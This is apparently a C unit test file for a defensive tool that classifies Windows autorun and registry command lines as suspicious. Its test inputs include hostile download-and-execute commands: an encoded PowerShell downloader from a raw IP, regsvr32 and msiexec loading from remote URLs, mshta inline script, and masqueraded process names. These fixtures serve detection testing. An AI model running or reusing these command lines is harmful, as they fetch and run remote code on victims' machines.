/*
 * Interpretation: env expansion, host unwrapping, base64, classification, masquerading,
 * hidden names, list splitting, hostile input.
 */
#include "rh_test.h"

static rh_ctx *ctx;

static void an(const char *s, rh_interp *r)
{
    RH_CHECK_EQ(
        rh_interp_analyze(ctx, NULL, RH_INTERP_MODE_COMMAND, RH_REGTYPE_SZ, s, strlen(s), r),
        RH_OK);
}

static void test_unwrap(void)
{
    rh_interp r;
    an("cmd.exe /c \"C:\\Users\\Public\\a.exe -x\"", &r);
    RH_CHECK_STR(r.target, "C:\\Users\\Public\\a.exe");
    RH_CHECK_EQ(r.path_class, RH_PATH_PUBLIC);
    RH_CHECK_STR(r.hosts, "cmd");
    rh_interp_free(ctx, &r);
    /* IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a') as UTF-16LE base64 */
    an("powershell -nop -w hidden -e "
       "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwB"
       "uAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMQAuADIALgAzAC8AYQAnACkA",
       &r);
    RH_CHECK(r.features & RH_FEAT_ENCODED);
    RH_CHECK(r.features & RH_FEAT_DOWNLOAD);
    RH_CHECK(r.features & RH_FEAT_RAW_IP);
    RH_CHECK(r.features & RH_FEAT_HIDDEN_WINDOW);
    RH_CHECK(r.decoded && strstr(r.decoded, "DownloadString") != NULL);
    rh_interp_free(ctx, &r);
    an("rundll32.exe C:\\ProgramData\\x.dat,#1", &r);
    RH_CHECK_STR(r.target, "C:\\ProgramData\\x.dat");
    RH_CHECK_STR(r.entry, "#1");
    RH_CHECK(r.features & RH_FEAT_ODD_EXT);
    RH_CHECK(r.features & RH_FEAT_RUNDLL_ORDINAL);
    rh_interp_free(ctx, &r);
    an("regsvr32 /s /n /u /i:http://203.0.113.9/s.sct scrobj.dll", &r);
    RH_CHECK(r.features & RH_FEAT_SCROBJ);
    RH_CHECK_EQ(r.path_class, RH_PATH_URL);
    rh_interp_free(ctx, &r);
    an("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")", &r);
    RH_CHECK(r.features & RH_FEAT_INLINE_SCRIPT);
    RH_CHECK(r.features & RH_FEAT_SCRIPT_HOST);
    rh_interp_free(ctx, &r);
    an("wscript.exe //B //Nologo %APPDATA%\\x.vbs", &r);
    RH_CHECK_STR(r.target, "C:\\Users\\user\\AppData\\Roaming\\x.vbs");
    RH_CHECK_EQ(r.path_class, RH_PATH_APPDATA);
    RH_CHECK(r.features & RH_FEAT_SCRIPT_FILE);
    rh_interp_free(ctx, &r);
    an("msiexec /q /i http://198.51.100.1/x.msi", &r);
    RH_CHECK_EQ(r.path_class, RH_PATH_URL);
    rh_interp_free(ctx, &r);
    an("conhost.exe --headless cmd /c C:\\Windows\\Temp\\t.bat", &r);
    RH_CHECK_STR(r.target, "C:\\Windows\\Temp\\t.bat");
    RH_CHECK_EQ(r.path_class, RH_PATH_TEMP);
    rh_interp_free(ctx, &r);
    an("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"C:\\Users\\bob\\e.exe\"", &r);
    RH_CHECK_STR(r.target, "C:\\Users\\bob\\e.exe");
    RH_CHECK_EQ(r.path_class, RH_PATH_USERS);
    rh_interp_free(ctx, &r);
    an("explorer.exe C:\\Users\\Public\\p.exe", &r);
    RH_CHECK_STR(r.target, "C:\\Users\\Public\\p.exe");
    rh_interp_free(ctx, &r);
    an("explorer.exe", &r);
    RH_CHECK(!(r.features & RH_FEAT_LOLBIN));
    RH_CHECK_EQ(r.path_class, RH_PATH_RELATIVE);
    rh_interp_free(ctx, &r);
    an("C:\\Program Files\\Vendor App\\agent.exe -background", &r);
    RH_CHECK_STR(r.target, "C:\\Program Files\\Vendor App\\agent.exe");
    RH_CHECK_EQ(r.path_class, RH_PATH_PROGRAM_FILES);
    rh_interp_free(ctx, &r);
    an("c^m^d /c echo", &r);
    RH_CHECK(r.features & RH_FEAT_OBFUSCATED);
    rh_interp_free(ctx, &r);
    an("\\\\10.0.0.5\\share\\x.exe", &r);
    RH_CHECK_EQ(r.path_class, RH_PATH_UNC);
    RH_CHECK(r.features & RH_FEAT_RAW_IP);
    rh_interp_free(ctx, &r);
}

static void test_classify(void)
{
    rh_interp r;
    RH_CHECK_EQ(rh_path_classify("C:\\Windows\\System32\\x.dll", 26), RH_PATH_SYSTEM32);
    RH_CHECK_EQ(rh_path_classify("C:\\Windows\\x.exe", 16), RH_PATH_WINDOWS);
    RH_CHECK_EQ(rh_path_classify("C:\\ProgramData\\x", 16), RH_PATH_PROGRAMDATA);
    RH_CHECK_EQ(rh_path_classify("C:\\Users\\a\\AppData\\Local\\x", 26), RH_PATH_LOCALAPPDATA);
    RH_CHECK_EQ(rh_path_classify("https://x/y", 11), RH_PATH_URL);
    RH_CHECK_EQ(rh_path_classify("evil.dll", 8), RH_PATH_RELATIVE);
    RH_CHECK_EQ(rh_path_classify("D:\\tools\\x.exe", 14), RH_PATH_OTHER);
    RH_CHECK_STR(rh_interp_masquerade("svch0st.exe", 11), "svchost");
    RH_CHECK_STR(rh_interp_masquerade("scvhost.exe", 11), "svchost");
    RH_CHECK(rh_interp_masquerade("svchost.exe", 11) == NULL);
    RH_CHECK(rh_interp_masquerade("OneDrive.exe", 12) == NULL);
    an("C:\\Users\\Public\\svchost.exe", &r);
    RH_CHECK(r.features & RH_FEAT_SYSNAME_MISPLACED);
    rh_interp_free(ctx, &r);
    an("C:\\Users\\bob\\Downloads\\invoice.pdf.exe", &r);
    RH_CHECK(r.features & RH_FEAT_DOUBLE_EXT);
    rh_interp_free(ctx, &r);
    an("\"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", &r);
    RH_CHECK(r.features & RH_FEAT_VENDOR_USERDIR);
    RH_CHECK(!(r.features & RH_FEAT_USER_WRITABLE));
    rh_interp_free(ctx, &r);
    RH_CHECK_EQ(rh_interp_analyze(ctx, NULL, RH_INTERP_MODE_PATH, RH_REGTYPE_EXPAND_SZ,
                                  "%TEMP%\\x.dll", 12, &r),
                RH_OK);
    RH_CHECK(r.features & RH_FEAT_EXPAND_SZ);
    RH_CHECK_EQ(r.path_class, RH_PATH_TEMP);
    rh_interp_free(ctx, &r);
}

static void test_env_b64_names(void)
{
    rh_env *env = NULL;
    rh_buf b = RH_BUF_INIT(ctx);
    unsigned unres = 0;
    RH_CHECK_EQ(rh_env_create(ctx, &env), RH_OK);
    RH_CHECK_EQ(rh_env_set_profile(env, "C:\\Users\\bob", "bob"), RH_OK);
    RH_CHECK_EQ(rh_env_expand(env, "%APPDATA%\\x;%NOPE%;%windir%", 27, &b, &unres), RH_OK);
    RH_CHECK_STR(b.data, "C:\\Users\\bob\\AppData\\Roaming\\x;%NOPE%;C:\\Windows");
    RH_CHECK_EQ(unres, 1);
    rh_buf_reset(&b);
    RH_CHECK_EQ(rh_env_expand(env, "\\SystemRoot\\System32\\drivers\\x.sys", 34, &b, NULL), RH_OK);
    RH_CHECK_STR(b.data, "C:\\Windows\\System32\\drivers\\x.sys");
    rh_buf_reset(&b);
    RH_CHECK_EQ(rh_env_set(env, "LOOP", "%LOOP%x"), RH_OK); /* self-reference is bounded */
    RH_CHECK_EQ(rh_env_expand(env, "%LOOP%", 6, &b, NULL), RH_OK);
    rh_buf_reset(&b);
    RH_CHECK_EQ(rh_base64_decode("aABpAA==", 8, 1, &b), RH_OK);
    RH_CHECK_STR(b.data, "hi");
    rh_buf_reset(&b);
    RH_CHECK_EQ(rh_base64_decode("not base64!", 11, 0, &b), RH_ERR_FORMAT);
    RH_CHECK(rh_name_is_hidden("\0Run", 4, NULL));
    RH_CHECK(rh_name_is_hidden("a\xE2\x80\xAE"
                               "exe",
                               7, NULL));
    RH_CHECK(!rh_name_is_hidden("OneDrive", 8, NULL));
    rh_buf_free(&b);
    rh_env_destroy(env);
}

static rh_status count_item(const char *item, size_t len, void *user)
{
    (void)item;
    (void)len;
    (*(int *)user)++;
    return RH_OK;
}

static void test_split_hostile(void)
{
    int n = 0;
    static char big[200000];
    rh_interp r;
    size_t i;
    RH_CHECK_EQ(rh_interp_split("a, b,,\"c\" ", 10, 0, " ,", count_item, &n), RH_OK);
    RH_CHECK_EQ(n, 3);
    n = 0;
    RH_CHECK_EQ(rh_interp_split("x\0y z\0", 6, 1, "", count_item, &n), RH_OK);
    RH_CHECK_EQ(n, 2);
    for (i = 0; i + 1 < sizeof(big); i++) {
        big[i] = "cmd /c \"^&|%"[i % 12];
    }
    RH_CHECK_EQ(rh_interp_analyze(ctx, NULL, RH_INTERP_MODE_COMMAND, 1, big, sizeof(big) - 1, &r),
                RH_OK);
    RH_CHECK(r.features & RH_FEAT_LONG);
    rh_interp_free(ctx, &r);
    RH_CHECK_EQ(rh_interp_analyze(ctx, NULL, RH_INTERP_MODE_COMMAND, 1, "", 0, &r), RH_OK);
    RH_CHECK(r.features & RH_FEAT_EMPTY);
    rh_interp_free(ctx, &r);
}

int main(void)
{
    RH_CHECK_EQ(rh_ctx_create(NULL, &ctx), RH_OK);
    test_unwrap();
    test_classify();
    test_env_b64_names();
    test_split_hostile();
    rh_ctx_destroy(ctx);
    return rh_test_summary("test_interp_cmd");
}
